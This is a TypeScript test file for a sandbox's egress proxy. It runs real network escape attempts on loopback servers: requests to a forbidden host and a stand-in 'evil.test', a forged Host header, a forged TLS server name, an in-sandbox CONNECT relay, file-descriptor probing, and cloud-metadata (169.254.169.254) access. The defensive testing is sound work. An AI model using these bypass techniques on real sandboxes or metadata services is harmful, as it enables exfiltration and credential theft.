/**
 * Network escapes from a proxy-mode sandbox (`mxcc run`, real enforcer, bridge and egress
 * proxy). Every attack runs twice with the same command line: unsandboxed first, where it must
 * reach its target (so the test can fail), then under the policy, where it must not. Servers are
 * real HTTP servers on loopback; the metadata case runs in a throwaway network namespace that
 * has 169.254.169.254 on its loopback. Names resolve through `--resolve`, never DNS.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import * as net from 'node:net';
import * as tls from 'node:tls';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { mxcc, mxccRun, origin, repo, runAsync } from '../run/helpers.js';

let root: string;
let allowed: Awaited<ReturnType<typeof origin>>;
let forbidden: Awaited<ReturnType<typeof origin>>;
let policy: string;
let relay: string;
let A: number;
let B: number;
/** A TLS server answering with the server name the client asked for (virtual hosts on one address). */
let vhosts: tls.Server;
let T: number;

/** An attacker's own relay, started inside the sandbox: CONNECT handled by dialing the target
 * itself (`direct`) or by passing the bytes on to $HTTP_PROXY (`chain`, when set). */
const RELAY = `
const net = require('net');
const mode = process.argv[2];
const server = net.createServer((c) => {
  c.once('data', (head) => {
    const upstream = process.env.HTTP_PROXY && mode === 'chain' ? new URL(process.env.HTTP_PROXY) : undefined;
    const m = /^CONNECT ([^:]+):(\\d+)/.exec(head.toString());
    const u = upstream ? net.connect(+upstream.port, upstream.hostname) : net.connect(+m[2], m[1] === 'evil.test' ? '127.0.0.1' : m[1]);
    u.on('error', () => c.destroy());
    if (upstream) u.write(head);
    else u.once('connect', () => c.write('HTTP/1.1 200 OK\\r\\n\\r\\n'));
    c.pipe(u).pipe(c);
  });
});
server.once('connection', () => server.close()); // one tunnel, then the relay exits
setTimeout(() => process.exit(0), 15000).unref();
server.listen(0, '127.0.0.1', () => process.stdout.write(server.address().port + '\\n'));
`;

beforeAll(async () => {
  execFileSync('make', ['-C', path.join(repo, 'enforcer')], { stdio: 'pipe' });
  root = mkdtempSync(path.join(tmpdir(), 'mxcc-escape-net-'));
  allowed = await origin('server-a');
  forbidden = await origin('server-b');
  A = allowed.port;
  B = forbidden.port;
  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', path.join(root, 'key.pem'), '-out', path.join(root, 'cert.pem'), '-subj', '/CN=allowed.test', '-days', '1'], { stdio: 'pipe' });
  vhosts = tls.createServer({ key: readFileSync(path.join(root, 'key.pem')), cert: readFileSync(path.join(root, 'cert.pem')) }, (s) => s.end(`tls-vhost=${(s as tls.TLSSocket & { servername?: string }).servername}\n`));
  vhosts.on('tlsClientError', () => undefined);
  await new Promise<void>((resolve) => vhosts.listen(0, '127.0.0.1', resolve));
  T = (vhosts.address() as net.AddressInfo).port;
  relay = path.join(root, 'relay.js');
  writeFileSync(relay, RELAY);
  policy = path.join(root, 'p.mxc');
  writeFileSync(
    policy,
    `import "std/linux-runtime.mxc"
policy escape extends linux_runtime {
  fs { allow read, list "${root}/**" }
  net { allow connect tcp "allowed.test":${A}, "127.0.0.1":${A}, "allowed.test":${T}, "127.0.0.1":${T} }
}
`,
  );
});

afterAll(async () => {
  await allowed.close();
  await forbidden.close();
  vhosts.close();
  rmSync(root, { recursive: true, force: true });
});

const RESOLVE = ['--resolve', 'allowed.test=127.0.0.1', '--resolve', 'evil.test=127.0.0.1'];
const curl = 'curl -sS -m 5';

/** The attack's script, run as `sh -c` outside and then inside the sandbox. */
async function attack(script: string, marker: string): Promise<void> {
  const outside = await runAsync('sh', ['-c', script], { env: { PATH: process.env.PATH } });
  expect(outside.stdout, `unsandboxed: ${outside.stderr}`).toContain(marker);
  const inside = await mxccRun([policy, ...RESOLVE, '--', 'sh', '-c', script]);
  expect(inside.stdout, inside.stderr).not.toContain(marker);
  expect(inside.stderr).not.toContain('mxc-enforce:');
}

describe('escape: network through or around the egress proxy', () => {
  it('a non-allowed host by IP, directly (no route) and through the proxy (refused)', async () => {
    await attack(`${curl} http://127.0.0.1:${B}/`, 'server-b');
    await attack(`${curl} --noproxy '' -x "\${HTTP_PROXY:-}" http://127.0.0.1:${B}/`, 'server-b');
    await attack(`node -e 'require("net").connect(${B},"127.0.0.1").on("connect",function(){console.log("server-b reached");this.destroy()}).on("error",()=>{})'`, 'server-b reached');
  });

  it('a non-allowed host by name: plain HTTP, CONNECT and SOCKS5 through the proxy', async () => {
    await attack(`${curl} --resolve evil.test:${B}:127.0.0.1 http://evil.test:${B}/`, 'server-b');
    await attack(`${curl} -p --resolve evil.test:${B}:127.0.0.1 http://evil.test:${B}/`, 'server-b');
    await attack(`${curl} -x "\${ALL_PROXY:-}" --resolve evil.test:${B}:127.0.0.1 http://evil.test:${B}/`, 'server-b');
  });

  it('a forged Host header to an allowed host', async () => {
    await attack(`${curl} --resolve allowed.test:${A}:127.0.0.1 -H "Host: evil.test:${B}" http://allowed.test:${A}/`, 'host=evil.test');
  });

  it('a forged TLS server name (SNI) in a tunnel to an allowed host', async () => {
    const client = `const tls=require("tls"),net=require("net");
const go=(s)=>{const t=tls.connect({socket:s,servername:process.argv.slice(1).find((a)=>!a.includes("/"))||"evil.test",rejectUnauthorized:false});t.on("data",(d)=>process.stdout.write(d));t.on("error",()=>{})};
const p=process.env.HTTPS_PROXY;
if(p){const u=new URL(p);const s=net.connect(+u.port,u.hostname,()=>s.write("CONNECT allowed.test:${T} HTTP/1.1\\r\\n\\r\\n"));s.on("error",()=>{});s.once("data",()=>go(s))}
else go(net.connect(${T},"127.0.0.1"))`;
    writeFileSync(path.join(root, 'sni.js'), client);
    await attack(`node ${path.join(root, 'sni.js')}`, 'tls-vhost=evil.test');
    // The same tunnel with the checked name works: the refusal above is the server name's.
    const honest = await mxccRun([policy, ...RESOLVE, '--', 'node', '-e', readFileSync(path.join(root, 'sni.js'), 'utf8'), 'allowed.test']);
    expect(honest.stdout, honest.stderr).toBe('tls-vhost=allowed.test\n');
  });

  it('with the proxy variables unset: even the allowed host is unreachable directly', async () => {
    await attack(`env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy ${curl} --resolve allowed.test:${A}:127.0.0.1 http://allowed.test:${A}/`, 'server-a');
  });

  it('a CONNECT relayed through another process inside the sandbox', async () => {
    for (const mode of ['direct', 'chain']) await attack(relayScript(mode), 'server-b');
  });

  it('the command holds no socket but what it opens: not the connector channel, not an upstream, not the bridge\'s', async () => {
    // Every fd from 3 to 4095, and whether it is a socket (perl: /proc/self/fd is not readable inside).
    const probe = `perl -e 'for my $fd (3..4095) { my $f; next unless open($f, "<&=", $fd) or open($f, ">&=", $fd); print "open-fd:$fd", (-S $f ? ":socket" : ""), "\\n" } print "probed\\n"'`;
    // Other processes' fds: none readable, not the connector's (which holds the proxy's channel),
    // the bridge's or init's. They start just before or after the command: pids near its own (or
    // the first ones, in a PID namespace). bash builtins only (a glob), so no child is ever "self".
    const peek = 'shopt -s nullglob; for p in {1..64} $(eval echo {$(($$ - 64))..$(($$ + 64))}); do [ $p = $$ ] && continue; f=(/proc/$p/fd/*); [ \${#f[@]} -gt 0 ] && echo fds-readable:$p; done';
    const outside = await runAsync('bash', ['-c', `exec 9<>/dev/tcp/127.0.0.1/${A}; ${probe}; ${peek}`]);
    expect(outside.stdout, outside.stderr).toContain('open-fd:9:socket');
    expect(outside.stdout).toContain('fds-readable:1');
    // Inside: after a tunnel through the fast path (the bridge held its upstream socket) and while
    // another is open.
    const script = `${curl} -p --resolve allowed.test:${A}:127.0.0.1 http://allowed.test:${A}/; exec 8<>/dev/null; ${probe}; ${peek}`;
    const inside = await mxccRun([policy, ...RESOLVE, '--', 'bash', '-c', script]);
    expect(inside.stdout, inside.stderr).toContain('server-a host=allowed.test');
    expect(inside.stdout).toContain('open-fd:8\n');
    expect(inside.stdout).toContain('probed');
    expect(inside.stdout).not.toContain(':socket');
    expect(inside.stdout).not.toContain('fds-readable');
  });

  it('169.254.169.254 by address, by a name that resolves to it, and directly', async () => {
    const meta = path.join(root, 'meta.mxc');
    writeFileSync(meta, `import "std/linux-runtime.mxc"\npolicy meta extends linux_runtime {\n  net { allow connect tcp "meta.test":80, any:80 }\n}\n`);
    const server = `require("http").createServer((q,s)=>s.end("metadata-secret\\n")).listen(80,"169.254.169.254")`;
    const tries = `${curl} http://169.254.169.254/; ${curl} http://meta.test/; ${curl} --noproxy '*' http://169.254.169.254/; ${curl} -x "\${ALL_PROXY:-}" http://169.254.169.254/`;
    const script = `set -e; ip link set lo up; ip addr add 169.254.169.254/32 dev lo
node -e '${server}' & server=$!; i=0; until curl -s -m 1 http://169.254.169.254/ >/dev/null || [ $i -gt 100 ]; do sleep 0.05; i=$((i+1)); done
set +e
echo "== outside"; sh -c ${quoted(tries.replace('http://meta.test/', '--resolve meta.test:80:169.254.169.254 http://meta.test/'))}
echo "== inside"; ${process.execPath} ${mxcc} run ${meta} --resolve meta.test=169.254.169.254 --log-net - -- sh -c ${quoted(tries)} 2>&1
kill $server`;
    const r = await runAsync('unshare', ['--net', 'sh', '-c', script], { env: { PATH: process.env.PATH }, timeoutMs: 60_000 });
    const [outside = '', inside = ''] = r.stdout.split('== inside');
    expect(outside.match(/metadata-secret/g), r.stderr).toHaveLength(4);
    expect(inside).not.toContain('metadata-secret');
    expect(inside).toContain(`deny http 169.254.169.254:80 rule=- reason="169.254.169.254 is a loopback, link-local, this host's own or other special address that no rule names"`);
    expect(inside).toMatch(/deny http meta\.test:80 rule=- reason="resolves only to refused addresses: 169\.254\.169\.254 is/);
    expect(inside, inside).toMatch(/deny socks5 169\.254\.169\.254:80/);
  });
});

/** Double-quoted for sh, with `$` left for the inner shell to expand. */
function quoted(script: string): string {
  return JSON.stringify(script).replaceAll('$', '\\$');
}

/** The relay attack: start the attacker's relay in the background, CONNECT through it. */
function relayScript(mode: string): string {
  return `node ${relay} ${mode} | { read port; ${curl} --noproxy '' -p -x http://127.0.0.1:$port http://evil.test:${B}/; }`;
}
